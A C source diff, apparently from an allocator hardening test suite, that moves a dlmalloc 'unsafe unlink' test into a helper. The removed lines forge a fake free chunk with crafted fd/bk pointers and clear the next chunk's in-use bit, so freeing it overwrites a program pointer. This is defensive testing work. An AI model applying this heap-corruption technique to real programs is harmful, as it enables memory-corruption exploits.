@@ -18,6 +18,7 @@
 #include <string.h>
 
 #include "harness.h"
+#include "heaps.h"
 
 /* The cases that need POSIX mmap or threads (Linux, the BSDs, macOS). */
 #if TH_HOSTED && (defined(__unix__) || defined(__APPLE__)) && defined(__GNUC__)
@@ -374,10 +375,8 @@ static int commit(const char *name) {
        writes into holder a pointer to holder itself: the program's pointer is now the
        attacker's.  q is too big for a thread cache, so it is merged at once.  (One word past
        p's usable size is written: the flag, and with FOOTERS p's footer.) */
-    size_t s = sizeof(size_t), fsize, qhead;
     void **holder, *before = dlmalloc(64); /* holder - 3 lies in the heap */
     unsigned char *p, *q;
-    size_t *fake;
     holder = (void **)dlmalloc(4 * sizeof(void *));
     p = (unsigned char *)dlmalloc(128);
     q = (unsigned char *)dlmalloc(2000);
@@ -385,19 +384,7 @@ static int commit(const char *name) {
     if (before == NULL || holder == NULL || p == NULL || q == NULL ||
         (size_t)(q - p) < dlmalloc_usable_size(p) || (size_t)(q - p) > 256)
       return 2; /* q must follow p */
-    holder[0] = p;
-    fake = (size_t *)(void *)p;
-    fsize = (size_t)(q - p) - 2 * s; /* from the forged chunk (at p) to q's header */
-    fake[0] = 0;
-    fake[1] = fsize | 1u;                      /* free, its predecessor in use */
-    fake[2] = (size_t)(uintptr_t)(holder - 3); /* fd: fd->bk is holder[0] */
-    fake[3] = (size_t)(uintptr_t)(holder - 2); /* bk: bk->fd is holder[0] */
-    /* The word before q's header (p's last, or its footer with FOOTERS) and q's size word,
-       whose "previous chunk in use" bit is cleared. */
-    memcpy(p + fsize, &fsize, s);
-    memcpy(&qhead, q - s, s);
-    qhead &= ~(size_t)1;
-    memcpy(q - s, &qhead, s);
+    forge_free_predecessor(holder, p, q);
     dlfree(q);
     if (holder[0] == (void *)(holder - 3))
       th_write("unlinking the forged chunk redirected the program's pointer\n");
